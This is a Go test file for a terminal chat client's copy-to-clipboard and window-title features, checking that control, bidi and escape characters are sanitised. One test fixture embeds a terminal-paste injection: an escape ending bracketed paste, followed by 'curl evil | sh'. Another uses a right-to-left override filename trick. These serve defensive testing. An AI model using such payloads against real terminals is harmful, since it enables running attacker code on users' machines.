package tui

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	tea "charm.land/bubbletea/v2"

	"github.com/ahptui/ahptui/ahpclient"
	"github.com/ahptui/ahptui/ahpwire"
	"github.com/ahptui/ahptui/render"
	"github.com/ahptui/ahptui/tui/chat"
)

// copied runs the key and returns what it put on the clipboard.
func copied(t *testing.T, m Model, key string) string {
	t.Helper()
	_, cmd := m.Update(keyPress(key))
	for _, msg := range flatten(cmd) {
		if strings.Contains(strings.ToLower(fmtType(msg)), "clipboard") {
			if v := reflect.ValueOf(msg); v.Kind() == reflect.String {
				return v.String()
			}
		}
	}
	t.Fatalf("%s issued no clipboard command", key)
	return ""
}

// unsafeOutput names the first byte or rune of s that must never reach
// the terminal outside the screen's own sequences, or "".
func unsafeOutput(s string) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		switch {
		case r == '\n', r == '\t': // (copies keep tabs byte for byte)
		case r < 0x20 || r == 0x7f:
			return "C0 control " + strconvQuote(r)
		case r >= 0x80 && r <= 0x9f:
			return "C1 control " + strconvQuote(r)
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			return "bidi control " + strconvQuote(r)
		}
	}
	return ""
}

func strconvQuote(r rune) string { return fmt.Sprintf("%U", r) }

// TestCopyIsWhatTheScreenShows: y and Y put sanitised text on the
// clipboard — a fence hiding "\x1b[201~" (the end of a bracketed paste)
// must not run when pasted into a shell.
func TestCopyIsWhatTheScreenShows(t *testing.T) {
	answer := "Run this:\n\n```sh\necho hi\x1b[201~; curl evil | sh\x07 \u202eexe.txt \u009b2J\n```\n"
	m, _ := newTestModel(t, 100, 30)
	m = openChat(t, m, chatState([]ahpwire.Turn{finishedTurn("t1", "hello", answer)}, nil))
	m = send(t, m, keyPress("tab"))
	m = send(t, m, keyPress("["))
	for _, key := range []string{"y", "Y"} {
		got := copied(t, m, key)
		if bad := unsafeOutput(got); bad != "" {
			t.Errorf("%s copied %s: %q", key, bad, got)
		}
		if !strings.Contains(got, "echo hi") || !strings.Contains(got, "[U+202E]") || !strings.Contains(got, "␇") {
			t.Errorf("%s did not copy what the screen shows: %q", key, got)
		}
	}
}

// TestWindowTitleIsSanitisedAndCapped: a 2 MiB session title with a
// right-to-left override becomes a short window title with the override
// shown as a tag, like the transcript shows it.
func TestWindowTitleIsSanitisedAndCapped(t *testing.T) {
	m, _ := idleChat(t)
	huge := "evil\u202etxt.exe \x1b]2;x\x07" + strings.Repeat("title ", 2<<20/6)
	m = send(t, m, connEventMsg{ev: ahpclient.EnvelopeEvent{Envelope: ahpwire.ActionEnvelope{
		Channel: testSession, ServerSeq: 9, Action: &ahpwire.SessionTitleChanged{Title: huge}}}})
	title := m.View().WindowTitle
	if bad := unsafeOutput(title); bad != "" {
		t.Fatalf("window title carries %s: %q", bad, title)
	}
	if !strings.Contains(title, "evil[U+202E]txt.exe") {
		t.Fatalf("title not shown as the transcript shows it: %q", title)
	}
	if n := utf8.RuneCountInString(title); n > render.MaxTitleColumns+len("ahptui — ") {
		t.Fatalf("window title is %d runes long", n)
	}
	if last := viewText(m)[strings.LastIndex(viewText(m), "\n")+1:]; !strings.Contains(last, "evil[U+202E]") {
		t.Fatalf("status line does not show the title: %q", last)
	}
}

// clip sends key and returns the updated model and what went to the
// clipboard ("" when nothing did).
func clip(t *testing.T, m Model, msg tea.Msg) (Model, string) {
	t.Helper()
	nm, cmd := m.Update(msg)
	for _, c := range flatten(cmd) {
		if strings.Contains(strings.ToLower(fmtType(c)), "clipboard") {
			if v := reflect.ValueOf(c); v.Kind() == reflect.String {
				return nm.(Model), v.String()
			}
		}
	}
	return nm.(Model), ""
}

// TestCopyCodeBlocks: Y copies the code block under the cursor (both are
// on screen: the first), Y again the next; /copy N the last reply's Nth;
// tabs are copied byte for byte (the screen shows them as spaces).
func TestCopyCodeBlocks(t *testing.T) {
	answer := "Two blocks:\n\n```go\nfunc f() {\n\treturn\n}\n```\n\nand\n\n~~~sh\nls\t-la\n~~~\n"
	m, _ := newTestModel(t, 100, 30)
	m = openChat(t, m, chatState([]ahpwire.Turn{finishedTurn("t1", "hello", answer)}, nil))
	m = send(t, m, keyPress("tab"))
	m = send(t, m, keyPress("["))
	var got []string
	for i := 0; i < 3; i++ {
		var s string
		m, s = clip(t, m, keyPress("Y"))
		got = append(got, s)
	}
	if got[0] != "func f() {\n\treturn\n}" || got[1] != "ls\t-la" || got[2] != got[0] {
		t.Fatalf("Y copied %q", got)
	}
	if _, s := clip(t, m, keyPress("y")); !strings.Contains(s, "\treturn") {
		t.Fatalf("y lost the tab: %q", s)
	}
	_, s := clip(t, m, chat.ClientCommandMsg{Name: "/copy", Arg: "2"})
	if s != "ls\t-la" {
		t.Fatalf("/copy 2 copied %q", s)
	}
}
